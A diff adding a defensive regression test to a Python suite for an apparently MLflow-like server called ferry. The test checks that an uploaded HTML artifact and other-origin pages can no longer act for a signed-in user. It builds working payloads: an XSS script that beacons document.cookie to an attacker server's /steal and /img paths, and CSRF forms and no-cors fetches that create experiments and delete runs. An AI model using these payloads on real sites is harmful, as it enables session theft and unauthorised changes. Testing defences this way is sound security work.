@@ -195,7 +195,9 @@ def test_sign_in_with_a_read_token_in_chromium(ferry_bin, tmp_path):
         assert out["first_heading"] == "Sign in"
         assert out["rejected"] == "The token was not accepted."
         assert sorted(out["experiments"]) == ["Default", "locked"]
-        assert {"name": "ferry_token", "sameSite": "Strict"} in out["cookie"]
+        assert {"name": "ferry_token", "sameSite": "Strict", "httpOnly": True} in out["cookie"]
+        assert not out["cookie_value_is_token"] and not out["script_sees_cookie"]
+        assert out["write_sign_in"] == 204
         assert out["download"] == blob.hex()
         assert out["cookie_write"]["status"] == 403
         assert out["cookie_write"]["body"]["error_code"] == "PERMISSION_DENIED"
@@ -206,3 +208,104 @@ def test_sign_in_with_a_read_token_in_chromium(ferry_bin, tmp_path):
         assert "write-token" not in server.log() and "read+token" not in server.log()
     finally:
         server.stop()
+
+
+class Attacker:
+    """The attacker's web server on another origin (another port): serves /frame (evil.html framed
+    and opened from another origin) and /csrf (a text/plain form and no-cors fetches against the
+    default server), and records every request its pages' scripts send back (/steal, /img)."""
+
+    def __init__(self, victim_ui, artifact, default_url, run_id):
+        import http.server
+        import threading
+        self.stolen = []
+        outer = self
+        pages = {
+            "/frame": f'<iframe src="{victim_ui}{artifact}"></iframe>'
+                      f'<script>window.open("{victim_ui}{artifact}")</script>',
+            "/csrf": f"""<form id="f" method="POST" enctype="text/plain"
+                action="{default_url}/api/2.0/mlflow/experiments/create">
+              <input name='{{"name": "csrf-form", "x": "' value='"}}'></form>
+              <script>
+              fetch("{default_url}/api/2.0/mlflow/experiments/create", {{method: "POST",
+                    mode: "no-cors", body: JSON.stringify({{name: "csrf-fetch"}})}});
+              fetch("{default_url}/api/2.0/mlflow/runs/delete", {{method: "POST", mode: "no-cors",
+                    headers: {{"Content-Type": "text/plain"}}, body: JSON.stringify({{run_id: "{run_id}"}})}});
+              setTimeout(() => document.getElementById("f").submit(), 300);
+              </script>""",
+        }
+
+        class H(http.server.BaseHTTPRequestHandler):
+            def log_message(self, *a):
+                pass
+
+            def do_GET(self):
+                if self.path in pages:
+                    body = pages[self.path].encode()
+                    self.send_response(200)
+                    self.send_header("Content-Type", "text/html")
+                else:
+                    if not self.path.startswith("/favicon"):
+                        outer.stolen.append(self.path)
+                    body = b""
+                    self.send_response(204)
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            do_POST = do_GET
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+
+def test_other_origins_and_uploaded_html_cannot_act_for_the_user_in_chromium(ferry_bin, tmp_path):
+    """Issue 28: an uploaded evil.html, opened by a user signed in with the write token, read the
+    token from the cookie, sent it to another port and created an experiment; a page of another
+    origin created experiments and deleted runs on the default server with text/plain forms and
+    no-cors POSTs. Now the artifact downloads (attachment, sandboxing CSP, never HTML, framing
+    refused), the cookie is HttpOnly and only reads, and cross-site writes are refused."""
+    (tmp_path / "rw").write_text("write-token-0123456789\n")
+    locked = ServeProcess(ferry_bin, tmp_path / "data", "--token-file", tmp_path / "rw")
+    default = ServeProcess(ferry_bin, tmp_path / "open")
+    attacker = None
+    try:
+        c = ui_helpers.Client(locked.url, token="write-token-0123456789")
+        exp = c.api("experiments/create", {"name": "victim"})["experiment_id"]
+        run = c.api("runs/create", {"experiment_id": exp, "run_name": "r"})["run"]
+        root = run["info"]["artifact_uri"].removeprefix("mlflow-artifacts:/")
+        d = ui_helpers.Client(default.url)
+        dexp = d.api("experiments/create", {"name": "kept"})["experiment_id"]
+        drun = d.api("runs/create", {"experiment_id": dexp, "run_name": "keep-me"})["run"]["info"]["run_id"]
+        attacker = Attacker(locked.url, f"/api/2.0/mlflow-artifacts/artifacts/{root}/evil.html",
+                            default.url, drun)
+        evil = (f"<script>fetch('/api/ferry/whoami').then(r => r.text()).then(t => "
+                f"navigator.sendBeacon('{attacker.url}/steal', document.cookie + '|' + t));"
+                f"fetch('/ajax-api/2.0/mlflow/experiments/create', {{method: 'POST', headers: "
+                f"{{'Content-Type': 'application/json'}}, body: '{{\"name\": \"xss-pwned\"}}'}});"
+                f"new Image().src = '{attacker.url}/img?c=' + encodeURIComponent(document.cookie);"
+                f"</script>").encode()
+        c.put_artifact(run, "evil.html", evil)
+        cfg = {"url": locked.url, "write_token": "write-token-0123456789", "evil_url": attacker.url,
+               "artifact": f"/api/2.0/mlflow-artifacts/artifacts/{root}/evil.html"}
+        (tmp_path / "cfg.json").write_text(json.dumps(cfg))
+        p = subprocess.run([find_node(), str(ROOT / "tests/ui/attack_test.mjs"), str(tmp_path / "cfg.json")],
+                           capture_output=True, text=True, timeout=180)
+        assert p.returncode == 0, p.stderr
+        out = json.loads(p.stdout.strip().splitlines()[-1])
+        assert "error" not in out, out["error"]
+        assert out["downloaded"], out
+        assert out["script_sees_cookie"] is False
+        assert attacker.stolen == [], attacker.stolen  # no beacon, no image: the script never ran
+        names = [e["name"] for e in c.api("experiments/search", {"max_results": 100})["experiments"]]
+        assert "xss-pwned" not in names
+        dnames = [e["name"] for e in d.api("experiments/search", {"max_results": 100})["experiments"]]
+        assert "csrf-form" not in dnames and "csrf-fetch" not in dnames, dnames
+        status = d.request("GET", f"/api/2.0/mlflow/runs/get?run_id={drun}")["run"]["info"]["lifecycle_stage"]
+        assert status == "active"
+    finally:
+        if attacker:
+            attacker.server.shutdown()
+        locked.stop()
+        default.stop()
